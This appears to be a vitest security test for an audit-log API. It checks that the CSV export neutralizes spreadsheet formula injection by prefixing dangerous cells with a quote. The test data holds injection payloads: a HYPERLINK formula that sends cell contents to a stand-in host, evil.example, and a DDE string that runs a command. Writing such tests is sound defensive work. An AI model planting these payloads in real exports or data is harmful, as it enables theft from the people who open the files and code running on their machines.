/**
 * Attack: values an attacker controls (vendor, category, names in metadata, reasons) start with a
 * spreadsheet formula; an auditor opens the CSV export and the formula runs.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { auditInsert, auditRecord } from '../../src/audit/audit.repository.js';
import { createTestContext, policyBody, type TestAccount, type TestContext } from '../support/context.js';

let ctx: TestContext;
let acct: TestAccount;

beforeAll(async () => {
  ctx = await createTestContext();
  acct = await ctx.account('growth');
});
afterAll(() => ctx?.close());

/** RFC 4180: quoted fields may hold commas, CR, LF and doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length) rows.push([...row, cell]);
  return rows;
}

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];

describe('CSV export of the audit log', () => {
  test.each(DANGEROUS.map((c) => [JSON.stringify(c), c]))('a cell beginning with %s is prefixed with a quote', async (_label, c) => {
    const a = await ctx.account();
    const reason = `${c}HYPERLINK("https://evil.example/?x="&A1,"click")`;
    await auditInsert(ctx.database.db, auditRecord({ accountId: a.id, livemode: false, type: 'test.csv', actor: { type: 'system', id: null }, reason, vendor: `${c}1+1` })).execute();
    const csv = await a.test.get('/v1/audit-logs?limit=100', { accept: 'text/csv' });
    expect(csv.status).toBe(200);
    const [header, ...rows] = parseCsv(csv.text);
    const row = rows.find((r) => r[header!.indexOf('type')] === 'test.csv')!;
    expect(row[header!.indexOf('reason')]).toBe(`'${reason}`);
    expect(row[header!.indexOf('vendor')]).toBe(`'${c}1+1`);
  });

  test('values written through the API (vendor, category, agent name) are neutralized, and no cell of the export starts a formula', async () => {
    const pol = (await acct.test.post('/v1/policies', policyBody())).body.id;
    const agent = (await acct.test.post('/v1/agents', { name: '=cmd|"/c calc"!A1', policy_id: pol })).body.id;
    const res = await acct.test.post('/v1/authorize', { agent_id: agent, amount: 100, currency: 'USD', vendor: '@SUM(1+1)', category: '-2+3' });
    expect(res.status).toBe(200);
    const csv = await acct.test.get('/v1/audit-logs?limit=100', { accept: 'text/csv' });
    const [header, ...rows] = parseCsv(csv.text);
    expect(rows.length).toBeGreaterThan(2);
    for (const row of rows) for (const cell of row) expect(DANGEROUS).not.toContain(cell.charAt(0));
    const decision = rows.find((r) => r[header!.indexOf('type')] === 'authorization.decision')!;
    expect(decision[header!.indexOf('vendor')]!.startsWith(`'@`)).toBe(true);
    expect(decision[header!.indexOf('category')]).toBe(`'-2+3`);
  });

  test('ordinary values are left alone', async () => {
    const csv = await acct.test.get('/v1/audit-logs?limit=1', { accept: 'text/csv' });
    const [header, first] = parseCsv(csv.text);
    expect(first![header!.indexOf('id')]).toMatch(/^aud_/);
    expect(first![header!.indexOf('livemode')]).toBe('false');
  });
});
